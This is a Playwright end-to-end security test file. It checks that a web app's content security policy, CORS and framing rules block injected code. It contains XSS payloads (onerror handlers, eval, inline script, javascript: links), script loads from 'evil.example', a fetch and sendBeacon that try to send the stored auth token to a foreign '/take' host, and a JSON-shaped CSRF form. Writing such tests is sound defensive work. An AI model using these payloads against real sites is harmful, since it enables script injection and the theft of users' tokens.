import type { Server } from 'node:http'
import { expect, type Page, test } from '@playwright/test'
import { m } from '../packages/messages/generated/app/messages.js'
import { close, listenAt } from './hosts.ts'
import { foreign, server } from './origins.ts'
import { openAs } from './sign-in.ts'

declare global {
  interface Window {
    /** Attacks that succeeded add themselves here. */
    hacked?: string[]
    violations?: string[]
  }
}

/** Records violations of the content security policy in the page. */
const noteViolations = (page: Page) =>
  page.addInitScript(() => {
    window.hacked = []
    window.violations = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      window.violations?.push(effectiveDirective),
    )
  })

test.describe('S43 code that an attacker injects into the page', () => {
  /** Runs an attack in the page itself, where no tool bypasses the policy; returns the error that it throws. */
  const attacks: Record<string, () => void> = {
    'markup by innerHTML': () => {
      document.body.innerHTML = '<img src="/none" onerror="window.hacked.push(1)">'
    },
    'markup by insertAdjacentHTML': () => {
      document.body.insertAdjacentHTML('beforeend', '<svg onload="window.hacked.push(1)"></svg>')
    },
    'markup by document.write': () => document.write('<p>hacked</p>'),
    eval: () => {
      // biome-ignore lint/security/noGlobalEval: this is the attack
      // biome-ignore lint/complexity/noCommaOperator: an indirect call runs in the global scope
      ;(0, eval)('window.hacked.push(1)')
    },
    'a function from a text': () => new Function('window.hacked.push(1)')(),
    'a timer from a text': () => {
      // the type of setTimeout forbids strings
      ;(setTimeout as unknown as (code: string) => void)('window.hacked.push(1)')
    },
    'a script element with a text': () => {
      const script = document.createElement('script')
      script.textContent = 'window.hacked.push(1)'
      document.body.append(script)
    },
    'a script element from elsewhere': () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.body.append(script)
    },
    'an inline handler': () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'window.hacked.push(1)')
      document.body.append(button)
      button.click()
    },
  }

  test('does not run: innerHTML, eval and inline handlers throw', async ({ page }) => {
    await noteViolations(page)
    await openAs(page, 'lieve@demo.example', '/account', 'nl')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    for (const [name, attack] of Object.entries(attacks)) {
      const outcome = await page.evaluate(
        (source) =>
          new Promise<string>((resolve) => {
            const run = source as unknown as () => void
            setTimeout(() => {
              try {
                run()
                resolve('nothing thrown')
              } catch (error) {
                resolve(String(error))
              }
            })
          }),
        // a function cannot be passed directly, so it becomes a handle first
        await page.evaluateHandle(attack.toString().startsWith('(') ? `(${attack})` : `({${attack}}).eval`),
      )
      expect(outcome, name).not.toBe('nothing thrown')
    }
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    expect(await page.evaluate(() => window.hacked)).toEqual([])
    const violations = await page.evaluate(() => window.violations)
    expect(violations?.length).toBeGreaterThanOrEqual(Object.keys(attacks).length)
  })

  test('does not run from the initial HTML', async ({ page }) => {
    await noteViolations(page)
    await page.route('**/auth', async (route) => {
      const answer = await route.fetch()
      const body = (await answer.text()).replace(
        '</body>',
        `<script>window.hacked.push('inline')</script>
         <script src="${foreign}/x.js"></script>
         <script src="data:text/javascript,window.hacked.push('data')"></script>
         <img src="${server}/none.png" onerror="window.hacked.push('onerror')">
         <img src="${foreign}/beacon.png">
         <iframe src="${foreign}/"></iframe>
         <iframe srcdoc="<script>parent.hacked.push('frame')</script>"></iframe>
         <object data="${foreign}/x.swf"></object>
         <style>body { display: none }</style>
         <a id="trap" href="javascript:window.hacked.push('link')">x</a>
         <base href="${foreign}/">
         <form id="leak" action="${foreign}/take" method="post"><input name="p"></form></body>`,
      )
      await route.fulfill({ response: answer, body })
    })
    const elsewhere: string[] = []
    const site = await listenAt(foreign, (request, response) => {
      elsewhere.push(request.url ?? '')
      response.end()
    })
    await page.goto('/auth')
    await expect(
      page.getByRole('heading', { level: 1, name: m['auth.title']({}, { locale: 'nl' }) }),
    ).toBeVisible()
    await page.evaluate(() => {
      document.querySelector<HTMLElement>('#trap')?.click()
      document.querySelector<HTMLFormElement>('#leak')?.submit()
    })
    await expect
      .poll(async () => new Set(await page.evaluate(() => window.violations)))
      .toEqual(
        new Set([
          'script-src-elem',
          'script-src-attr',
          'img-src',
          'frame-src',
          'object-src',
          'style-src-elem',
          'base-uri',
          'form-action',
        ]),
      )
    expect(await page.evaluate(() => window.hacked)).toEqual([])
    expect(page.url()).toBe(`${server}/auth`)
    await close(site)
    expect(elsewhere).toEqual([])
  })

  test('cannot send tokens to other hosts', async ({ page }) => {
    const taken: string[] = []
    const site = await listenAt(foreign, (request, response) => {
      taken.push(request.url ?? '')
      response.end()
    })
    await noteViolations(page)
    await openAs(page, 'lieve@demo.example', '/account', 'nl')
    await page.evaluate(async (url) => {
      await fetch(url, { method: 'POST', body: localStorage.getItem('token') }).catch(String)
      navigator.sendBeacon(url, 'x')
    }, `${foreign}/take`)
    await expect.poll(() => page.evaluate(() => window.violations)).toEqual(['connect-src', 'connect-src'])
    await close(site)
    expect(taken).toEqual([])
  })
})

test.describe('S44 another site', () => {
  let site: Server
  const taken: string[] = []
  test.beforeEach(async () => {
    site = await listenAt(foreign, (request, response) => {
      taken.push(request.url ?? '')
      response.setHeader('content-type', 'text/html').end('<!doctype html><title>evil</title><p>evil</p>')
    })
  })
  test.afterEach(() => close(site))

  test('cannot read the API, with or without a token, from its own or a null origin', async ({ page }) => {
    await openAs(page, 'lieve@demo.example', '/account', 'nl')
    const token = await page.evaluate(() => localStorage.getItem('token'))
    const read = async (url: string, authorization: string | null) =>
      page.evaluate(
        async ([address, bearer]) =>
          fetch(address ?? '', { headers: bearer ? { authorization: `Bearer ${bearer}` } : {} }).then(
            ({ status }) => status,
            () => 'refused',
          ),
        [url, authorization],
      )
    await page.goto(foreign)
    expect(await read(`${server}/experiences/api/experiences`, null)).toBe('refused')
    expect(await read(`${server}/auth/api/accounts/details`, token)).toBe('refused')
    await page.goto('data:text/html,<title>null</title>')
    expect(await page.evaluate(() => origin)).toBe('null')
    expect(await read(`${server}/experiences/api/experiences`, null)).toBe('refused')
    expect(await read(`${server}/auth/api/accounts/details`, token)).toBe('refused')
  })

  test('cannot submit a form that the API accepts as JSON, and cannot frame a page', async ({ page }) => {
    await page.goto(foreign)
    const answered = page.waitForResponse(`${server}/auth/api/accounts/forgot_password`)
    await page.evaluate((action) => {
      const form = document.createElement('form')
      form.method = 'post'
      form.enctype = 'text/plain'
      form.action = action
      const field = document.createElement('input')
      // the name=value of a text form, shaped like JSON
      field.name = '{"email":"lieve@demo.example","platform":"client_dashboard","x":"'
      field.value = '"}'
      form.append(field)
      document.body.append(form)
      form.submit()
    }, `${server}/auth/api/accounts/forgot_password`)
    expect((await answered).status()).toBe(415)
    await page.waitForURL(`${server}/auth/api/accounts/forgot_password`)

    await page.goto(foreign)
    const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'))
    await page.evaluate((src) => {
      const frame = document.createElement('iframe')
      frame.src = src
      document.body.append(frame)
    }, `${server}/auth`)
    await refused
  })
})

test('S30 a web page in place of a document is never opened', async ({ page }) => {
  await openAs(page, 'lieve@demo.example', '/orders', 'nl')
  await page.route('**/orders/api/orders/file/*', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<script>opener.hacked = 1</script><h1>evil</h1>' }),
  )
  const pdf = page.getByRole('main').getByRole('button', { name: m['orders.pdf']({}, { locale: 'nl' }) })
  const [opened] = await Promise.all([page.waitForEvent('popup'), pdf.first().click()])
  await expect(page.getByText(m['orders.notify_document_failure']({}, { locale: 'nl' }))).toBeVisible()
  await expect.poll(() => opened.isClosed()).toBe(true)
})
